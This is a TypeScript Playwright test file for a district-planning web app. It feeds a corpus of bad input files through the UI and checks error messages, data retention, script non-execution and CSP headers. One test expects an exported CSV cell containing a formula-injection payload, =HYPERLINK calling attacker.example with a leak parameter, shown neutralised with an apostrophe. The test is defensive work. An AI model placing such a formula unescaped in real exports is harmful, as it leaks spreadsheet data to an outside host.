// The bad-input corpus (tests/fixtures/bad, with expected.json) through the real UI: each
// file is dropped on the open Kenya project; the planner sees the message, and everything
// already loaded is still there. Files that load with problems show them in the Data panel.
import { closeSync, mkdtempSync, openSync, writeSync, ftruncateSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { BAD, entryBytes, expected } from '../helpers/bad-corpus.ts';
import { launchChromium } from './browser.ts';
import { waitForIdle } from './page-helpers.ts';

const refusedAtOnce = Object.entries(expected).filter(([, e]) => e.error && e.stages.includes('sniff'));
// Tables read with a note on their encoding: the Data panel says which encoding was assumed.
const readWithNote = Object.entries(expected).filter(([name, e]) => e.role === 'table' && e.stages.includes('sniff') && e.issue?.startsWith(`${name}: `) && /UTF-16|Windows-1252/.test(e.issue));
/** The corpus file, or the file `generated` describes, on disk. */
function onDisk(name: string): string {
  const e = expected[name]!;
  if (!e.generated) return path.join(BAD, name);
  const file = path.join(mkdtempSync(path.join(tmpdir(), 'lastmile-gen-')), name);
  writeFileSync(file, entryBytes(name, e));
  return file;
}

/** A file of `size` bytes that starts with `head` and is sparse after it (takes no disk). */
function sparseFile(name: string, head: string, size: number): string {
  const file = path.join(mkdtempSync(path.join(tmpdir(), 'lastmile-big-')), name);
  const fd = openSync(file, 'w');
  writeSync(fd, head);
  ftruncateSync(fd, size);
  closeSync(fd);
  return file;
}

describe.skipIf(inject('browserMissing'))('bad input through the UI', () => {
  let browser: Browser;
  let page: Page;
  let nairobi: string;
  const dialogs: string[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
    page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(inject('baseUrl'));
    await waitForIdle(page);
    nairobi = await page.locator('tr[data-district-id="KE-47"] td[data-measure="internet_use.total"]').innerText();
  });
  afterAll(async () => {
    await browser?.close();
  });

  /** Adds a bad-corpus file as a district table joined on geo_id. */
  const addTable = async (name: string) => {
    await page.getByTestId('add-data-input').setInputFiles(onDisk(name));
    const dialog = page.locator('dialog.add-data-dialog');
    await dialog.waitFor();
    await dialog.getByLabel('column for district').selectOption('geo_id');
    await dialog.getByRole('button', { name: 'Add to project' }).click();
    await dialog.waitFor({ state: 'detached' });
    await waitForIdle(page);
  };

  const stillThere = async () => {
    expect(await page.locator('.district-table tbody tr').count()).toBe(47);
    expect(await page.locator('tr[data-district-id="KE-47"] td[data-measure="internet_use.total"]').innerText()).toBe(nairobi);
  };

  test.each(refusedAtOnce)('%s: the message is shown and nothing loaded is lost', async (name, e) => {
    const file = e.synthetic ? sparseFile(name, e.synthetic.head, e.synthetic.size) : onDisk(name);
    await page.getByTestId('add-data-input').setInputFiles(file);
    const notice = page.locator('p.notice');
    await notice.waitFor();
    expect(await notice.innerText()).toContain(e.sniffError ?? e.error!);
    expect(await page.locator('dialog.add-data-dialog').count()).toBe(0);
    await notice.getByRole('button', { name: 'Dismiss' }).click();
    await stillThere();
  });

  test.each(readWithNote)('%s: read, and the Data panel names the encoding assumed', async (name, e) => {
    await addTable(name);
    const layer = page.locator(`.layers-panel [data-layer="${name.replace(/\.csv$/, '').replace(/[^A-Za-z0-9_]/g, '_')}"]`);
    expect(await layer.innerText()).toContain(e.issue!.slice(name.length + 2));
    await stillThere();
  });

  test('ragged-rows.csv loads, and the Data panel names the rejected rows; Kenya data untouched', async () => {
    await addTable('ragged-rows.csv');
    const layer = page.locator('.layers-panel [data-layer="ragged_rows"]');
    expect(await layer.innerText()).toContain('rejected');
    expect(await layer.innerText()).toContain('row 3: column “households”: missing columns');
    await stillThere();
  });

  test('script-cell.csv: the cell is kept as text and never runs', async () => {
    await addTable('script-cell.csv');
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => document.querySelectorAll('script:not([src]):not([type])').length)).toBe(0);
    await stillThere();
  });

  test('a boundary file with a null geometry loads with the problem named', async () => {
    await page.locator('.projects-menu summary').click();
    await page.getByRole('button', { name: 'New empty project' }).click();
    await page.locator('.empty-state').waitFor();
    await page.getByTestId('add-data-input').setInputFiles(path.join(BAD, 'null-geometry.geojson'));
    const dialog = page.locator('dialog.add-data-dialog');
    await dialog.waitFor();
    await dialog.getByLabel('column for id').selectOption('geo_id');
    await dialog.getByLabel('column for name').selectOption('county_name');
    await dialog.getByRole('button', { name: 'Add to project' }).click();
    await dialog.waitFor({ state: 'detached' });
    await waitForIdle(page).catch(() => {}); // no indicator yet: the map has nothing to colour
    await page.locator('.layers-panel [data-layer="districts"]').waitFor();
    expect(await page.locator('.layers-panel [data-layer="districts"]').innerText()).toContain('district "KE-02" has no geometry');
  });

  test('formula injection: a district named =HYPERLINK(…) is exported as text in districts.csv', async () => {
    await page.locator('.projects-menu summary').click();
    await page.getByRole('button', { name: 'New empty project' }).click();
    await page.locator('.empty-state').waitFor();
    await page.getByTestId('add-data-input').setInputFiles(path.join(BAD, 'formula-name.geojson'));
    const dialog = page.locator('dialog.add-data-dialog');
    await dialog.waitFor();
    await dialog.getByLabel('column for id').selectOption('geo_id');
    await dialog.getByLabel('column for name').selectOption('county_name');
    await dialog.getByRole('button', { name: 'Add to project' }).click();
    await dialog.waitFor({ state: 'detached' });
    await page.locator('.layers-panel [data-layer="districts"]').waitFor();
    await page.locator('.results-menu summary').click();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'districts.csv', exact: true }).click()]);
    const file = path.join(mkdtempSync(path.join(tmpdir(), 'lastmile-formula-')), 'districts.csv');
    await download.saveAs(file);
    const lines = readFileSync(file, 'utf8').split('\n');
    // The cell starts with an apostrophe: a spreadsheet shows it as text and runs nothing.
    expect(lines[1]).toBe(`KE-01,"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Alpha"")"`);
    expect(lines[2]).toBe(`KE-02,'@SUM(1+1)`);
    // An id that is a plain negative number stays a number.
    expect(lines[3]).toBe('-3,Gamma');
  });

  test('the preview server sends the Content-Security-Policy as a header, with base-uri, form-action and object-src closed', async () => {
    const response = await page.request.get(inject('baseUrl'));
    const csp = response.headers()['content-security-policy'] ?? '';
    for (const directive of ["base-uri 'none'", "form-action 'none'", "object-src 'none'", "frame-ancestors 'none'", "default-src 'self'"]) expect(csp).toContain(directive);
    // The page's <meta> carries the same policy (bar frame-ancestors, which a <meta> cannot set).
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(`${meta}; frame-ancestors 'none'`).toBe(csp);
  });
});
